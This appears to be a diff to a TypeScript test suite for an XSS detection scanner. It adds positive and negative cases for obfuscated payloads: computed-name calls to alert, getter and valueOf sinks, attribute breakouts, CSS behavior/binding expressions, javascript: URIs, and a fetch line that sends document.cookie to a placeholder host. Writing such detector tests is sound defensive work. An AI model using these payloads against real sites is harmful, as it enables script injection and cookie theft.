@@ -160,7 +160,7 @@ describe('xss tag names end at whitespace, / or >', () => {
   it.each(hits)('%s is still a tag', (input) => {
     expect(d.scan(input, { context: 'query' }).threats.length).toBeGreaterThan(0);
   });
-  it.each(['WeakMap<object, Entry | boolean>', '- `options` __\\<object\\>__ - optional', 'Map<svg|math>', 'f(<style)', 'List<iframe>'.replace('>', ']')])('%s stays clean', (input) => {
+  it.each(['WeakMap<object, Entry | boolean>', '- `options` __\\<object\\>__ - optional', 'Map<svg|math>', 'f(<style)', 'List<iframe>'.replace('>', ']'), '- `parents` __\\<object[]\\>__ - the list'])('%s stays clean', (input) => {
     expect(d.scan(input, { context: 'query' }).blocked).toBe(false);
   });
   it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'WeakMap<object, T>', '\\<object\\>']); });
@@ -258,4 +258,86 @@ describe('a script scheme in prose runs nothing', () => {
     expect(d.scan('x javascript: alert(1)', { context: 'query' }).threats.find((t) => t.ruleId === 'xss.js-uri')).toMatchObject({ offset: 2, length: 11 });
   });
   it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'javascript: the good parts is a great book']); });
+});
+
+describe('xss global indexed by a computed name, then called', () => {
+  // the name built from regex literals' text or a number written in radix 30/36 (top[8680439..toString(30)] is top['alert'])
+  const hits = ['top[/al/.source+/ert/.source](1)', 'self[/pro/.source+/mpt/.source](1)', 'top[8680439..toString(30)](1)', 'window[1558153217..toString(36)]()',
+    "[alert][0].call(this,1)", "window['alert'].call(null,1)"];
+  it.each(hits)('%s is a js sink', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
+  });
+  it.each(['frames[0].location', 'string[0].toUpperCase()', 'this[0].focus()', 'top[1] of the list (see notes)', 'window[/x/]', "window['app'].init(1)", '[alert][0].value'])('%s stays clean', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
+  });
+  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'string[0].toUpperCase()']); });
+});
+
+describe('xss sink as the last value of an object literal', () => {
+  // a getter, conversion or handler the engine calls by itself
+  const hits = ["Object.defineProperty(window,'x',{get:alert});x", "({toString:prompt})+''", '{valueOf: confirm}'];
+  it.each(hits)('%s is a js sink', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
+  });
+  it.each(['(note:alert)', '{"level":"alert"}', 'type: alert, warning', '{alert}', '{level:alert,info}'])('%s stays clean', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
+  });
+  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, '(note:alert)']); });
+});
+
+describe('xss DOM lookups read the page; writing what they found counts', () => {
+  const hits = ['document.querySelector("p").textContent="x"', "document.getElementById('a').href='//x.test'", "document.getElementById('d').innerHTML=x"];
+  it.each(hits)('%s is a js sink', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.js-sink');
+  });
+  it.each(["document.querySelector('#total')", "document.getElementById('x')", "document.querySelector('#total').textContent returns an empty string",
+    'use document.getElementsByClassName'])('%s stays clean', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.js-sink');
+  });
+  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, "document.getElementById('x')"]); });
+});
+
+describe('xss quotes of an attribute value the tag itself opened', () => {
+  // a quote after '=' opens the value and its twin closes it: '>' after it ends the tag, no breakout, and a
+  // word inside the value (src="...?style=flat") is no attribute name
+  const hits: Array<[string, string]> = [['"><b>x', 'xss.attribute-breakout'], ["x' ><i>", 'xss.attribute-breakout'], ['<a title="x"></a>"><b>', 'xss.attribute-breakout'],
+    ['<div title="" style="x:y">', 'xss.style-attribute'], ['<img src=x" style=x:y>', 'xss.style-attribute'], ["<a href='x' style='color:red'>", 'xss.style-attribute']];
+  it.each(hits)('%s reports %s', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+  });
+  it.each(['<a name="start"></a>', '<a title=\'it"s\'><b>x</b></a>', '<p class="x"><b>y</b></p>'])('%s is no breakout', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.attribute-breakout');
+  });
+  it.each(['<img src="https://img.shields.io/x?style=flat">', "<a href='/x?style=dark'>x</a>"])('%s has no style attribute', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.style-attribute');
+  });
+  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits.map(([s]) => s), '<a name="start"></a>', '<img src="https://img.shields.io/x?style=flat">']); });
+});
+
+describe('xss names in code and prose that only look like handlers, schemes and sinks', () => {
+  // an on* name no list knows: outside a tag a handler only with '=' glued to it (const onMatch = ... declares a name);
+  // a scheme after a word with nothing after its ':' ends a sentence; a backtick right after alert() or document.cookie
+  // closes a code span (template text), so the name is quoted, not run
+  const hits: Array<[string, string]> = [['x onnewevent=1', 'xss.event-handler'], ['<x onnewthing = 1>', 'xss.event-handler'],
+    ['In JavaScript:alert(1)', 'xss.js-uri'], ['In JavaScript: alert(1)', 'xss.js-uri'], ['javascript:', 'xss.js-uri'], ['a javascript:x', 'xss.js-uri'],
+    ['x=`${document.cookie}`', 'xss.js-sink'], ["fetch('//x?'+document.cookie)", 'xss.js-sink'], ['alert(`1`)', 'xss.js-sink']];
+  it.each(hits)('%s reports %s', (input, rule) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain(rule);
+  });
+  it.each(['const onMatch = ({ glob }) => {', "var onFinished = require('on-finished')", 'In JavaScript:', 'It is also very useful with Mocha:',
+    'JavaScript to see the cookie in `document.cookie`.', 'call `alert()` to debug'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.ruleId.startsWith('xss.'))).toEqual([]);
+  });
+  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits.map(([s]) => s), 'const onMatch = 1', 'In JavaScript:', 'see `document.cookie`.']); });
+});
+
+describe('xss behavior: and binding: bind code through url()', () => {
+  const hits = ['<p style="behavior:url(#default#time2)">', 'x{behaviour: url(a.htc)}', 'binding:  url(//x.test/x.xml#b)'];
+  it.each(hits)('%s is a css expression', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('xss.css-expression');
+  });
+  it.each(['The following diagrams show the different stages of this behavior:', 'data binding: two-way', 'Behavior: expected output'])('%s stays clean', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('xss.css-expression');
+  });
+  it('gives the same verdict split anywhere', () => { expectSameWhenSplit(d, [...hits, 'stages of this behavior:']); });
 });
